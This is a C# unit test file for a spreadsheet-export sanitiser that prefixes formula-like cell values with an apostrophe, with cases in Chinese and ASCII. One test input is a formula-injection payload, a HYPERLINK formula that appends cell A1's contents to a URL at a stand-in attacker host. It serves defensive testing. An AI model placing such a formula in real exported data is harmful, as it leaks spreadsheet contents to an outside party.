using SmeZones.Core.Exports;

namespace SmeZones.Core.Tests.Exports;

public class CellSafetyTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")")]
    [InlineData("+1", "'+1")]
    [InlineData("-2", "'-2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("\u3000=1+1", "'\u3000=1+1")]
    [InlineData("\n-cmd", "'\n-cmd")]
    [InlineData("\tabc", "'\tabc")]
    [InlineData("\rabc", "'\rabc")]
    [InlineData("=", "'=")]
    [InlineData("-1+1", "'-1+1")]
    public void Values_a_spreadsheet_would_read_as_formulas_get_a_leading_apostrophe(string value, string expected) =>
        Assert.Equal(expected, CellSafety.Neutralise(value));

    [Theory]
    [InlineData("杭州市余杭区智能装备产业集群")]
    [InlineData("A=B")]
    [InlineData("1+1")]
    [InlineData("user@example.com")]
    [InlineData("91330110MA2xxxxx-1")]
    [InlineData("'=already quoted")]
    [InlineData("   ")]
    [InlineData("abc\t")]
    public void Ordinary_values_are_unchanged(string value) => Assert.Equal(value, CellSafety.Neutralise(value));

    [Theory]
    [InlineData("=HYPERLINK(\"http://x\")", true)]
    [InlineData("+cmd", true)]
    [InlineData("@SUM(1)", true)]
    [InlineData("-1+1", true)]
    [InlineData("1+1", false)]
    [InlineData("合作区", false)]
    [InlineData("", false)]
    [InlineData(null, false)]
    public void Formula_like_values_are_recognised(string? value, bool formulaLike) => Assert.Equal(formulaLike, CellSafety.IsFormulaLike(value));

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    public void Missing_values_become_empty_text(string? value) => Assert.Equal(string.Empty, CellSafety.Neutralise(value));
}
